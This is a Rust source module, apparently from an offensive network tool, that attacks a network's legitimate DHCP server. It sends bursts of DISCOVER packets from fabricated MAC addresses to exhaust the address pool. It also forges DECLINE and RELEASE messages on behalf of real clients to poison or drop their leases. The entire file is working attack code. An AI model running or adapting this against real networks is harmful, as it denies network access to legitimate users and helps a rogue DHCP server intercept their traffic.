//! Attacks against the legitimate DHCP server
//!
//! Forged DECLINE/RELEASE messages poison or drop the real server's
//! bindings; the periodic discover burst drains its free pool. All attack
//! packets are unicast from this host to the router as an ordinary client
//! (ports 68 to 67).

use super::engine::Dhcp4Engine;
use super::packet::{self, MessageType, OptionCode, OptionMap, CLIENT_PORT, SERVER_PORT};
use rand::Rng;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::{Duration, SystemTime};
use tracing::{debug, info, warn};
use weir_core::{MacAddr, Result};

/// Leading bytes of the fabricated MACs used by the discover burst; offers
/// coming back for these are ours and are ignored.
pub(crate) const FAKE_MAC_PREFIX: [u8; 4] = [0xff, 0xee, 0xdd, 0xcc];

/// Minimum spacing between discover bursts.
const ATTACK_SPACING: Duration = Duration::from_secs(20);

/// Burst size: one discover per fabricated MAC.
const ATTACK_SWEEP: u32 = 256;

fn random_xid() -> u32 {
    rand::thread_rng().gen()
}

impl Dhcp4Engine {
    /// Kick off a discover burst against the real server unless one ran in
    /// the last [`ATTACK_SPACING`].
    pub(crate) fn maybe_attack_server(self: &Arc<Self>) {
        {
            let mut next = self.next_attack.lock();
            let now = SystemTime::now();
            if *next > now {
                return;
            }
            *next = now + ATTACK_SPACING;
        }
        let engine = Arc::clone(self);
        tokio::spawn(async move { engine.attack_burst().await });
    }

    /// Sweep fabricated MACs and XIDs through DISCOVER to consume the real
    /// server's pool.
    async fn attack_burst(self: Arc<Self>) {
        info!(sweep = ATTACK_SWEEP, "dhcp discover burst against real server");
        let mut shutdown = self.shutdown.subscribe();
        for i in 0..ATTACK_SWEEP {
            if shutdown.try_recv().is_ok() {
                return;
            }
            let mut mac = [0u8; 6];
            mac[..4].copy_from_slice(&FAKE_MAC_PREFIX);
            mac[4] = 0xbb;
            mac[5] = i as u8;
            let xid = 0xffee_dd00 | (i & 0xff);
            if let Err(err) = self.send_discover(MacAddr(mac), xid, None) {
                warn!(error = %err, "dhcp burst discover failed");
            }
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    }

    /// Send a client DISCOVER as `chaddr`, with the parameter request list
    /// common DHCP clients use.
    pub fn send_discover(&self, chaddr: MacAddr, xid: u32, name: Option<&str>) -> Result<()> {
        debug!(xid, mac = %chaddr, "dhcp send discover");
        let mut options = OptionMap::new();
        if let Some(name) = name {
            options.insert(OptionCode::HOST_NAME, name.as_bytes().to_vec());
        }
        options.insert(
            OptionCode::PARAMETER_REQUEST_LIST,
            vec![
                OptionCode::MESSAGE_TYPE.0,
                OptionCode::SUBNET_MASK.0,
                OptionCode::CLASSLESS_ROUTE.0,
                OptionCode::ROUTER.0,
                OptionCode::DNS_SERVER.0,
                OptionCode::DOMAIN_NAME.0,
            ],
        );

        let nic = self.session().nic();
        self.send_dhcp_frame(
            (nic.host_mac, nic.host_addr4(), CLIENT_PORT),
            (nic.router_mac, nic.router_addr4(), SERVER_PORT),
            |buf| {
                packet::encode(
                    buf,
                    packet::BOOT_REQUEST,
                    MessageType::Discover,
                    chaddr,
                    Ipv4Addr::UNSPECIFIED,
                    Ipv4Addr::UNSPECIFIED,
                    xid,
                    false,
                    &options,
                    None,
                )
            },
        )
    }

    /// Forge a DECLINE to `server_ip` for the client's address, marking the
    /// entry bad in the victim server's table. Inputs are owned copies so
    /// the caller's frame buffer can be reused; the send happens on its own
    /// task.
    pub(crate) fn force_decline(
        self: &Arc<Self>,
        client_id: Vec<u8>,
        server_ip: Ipv4Addr,
        chaddr: MacAddr,
        client_ip: Ipv4Addr,
        xid: Option<u32>,
    ) {
        info!(mac = %chaddr, ip = %client_ip, server = %server_ip, "dhcp forge decline");

        let mut options = OptionMap::new();
        options.insert(OptionCode::CLIENT_ID, client_id);
        options.insert(OptionCode::SERVER_ID, server_ip.octets().to_vec());
        options.insert(OptionCode::MESSAGE, b"netfilter decline".to_vec());
        options.insert(OptionCode::REQUESTED_IP, client_ip.octets().to_vec());

        let engine = Arc::clone(self);
        tokio::spawn(async move {
            // ciaddr must be zero in a DECLINE
            if let Err(err) = engine.send_decline_release(
                MessageType::Decline,
                chaddr,
                Ipv4Addr::UNSPECIFIED,
                xid.unwrap_or_else(random_xid),
                options,
            ) {
                warn!(error = %err, "dhcp send decline failed");
            }
        });
    }

    /// Forge a RELEASE to `server_ip` so the victim server drops the lease.
    /// Per the RFC a RELEASE carries the address in ciaddr and no
    /// requested-IP option.
    pub(crate) fn force_release(
        self: &Arc<Self>,
        client_id: Vec<u8>,
        server_ip: Ipv4Addr,
        chaddr: MacAddr,
        client_ip: Ipv4Addr,
        xid: Option<u32>,
    ) {
        info!(mac = %chaddr, ip = %client_ip, server = %server_ip, "dhcp forge release");

        let mut options = OptionMap::new();
        options.insert(OptionCode::CLIENT_ID, client_id);
        options.insert(OptionCode::SERVER_ID, server_ip.octets().to_vec());
        options.insert(OptionCode::MESSAGE, b"netfilter release".to_vec());

        let engine = Arc::clone(self);
        tokio::spawn(async move {
            if let Err(err) = engine.send_decline_release(
                MessageType::Release,
                chaddr,
                client_ip,
                xid.unwrap_or_else(random_xid),
                options,
            ) {
                warn!(error = %err, "dhcp send release failed");
            }
        });
    }

    fn send_decline_release(
        &self,
        mtype: MessageType,
        chaddr: MacAddr,
        ciaddr: Ipv4Addr,
        xid: u32,
        options: OptionMap,
    ) -> Result<()> {
        let nic = self.session().nic();
        self.send_dhcp_frame(
            (nic.host_mac, nic.host_addr4(), CLIENT_PORT),
            (nic.router_mac, nic.router_addr4(), SERVER_PORT),
            |buf| {
                packet::encode(
                    buf,
                    packet::BOOT_REQUEST,
                    mtype,
                    chaddr,
                    ciaddr,
                    Ipv4Addr::UNSPECIFIED,
                    xid,
                    false,
                    &options,
                    None,
                )
            },
        )
    }
}
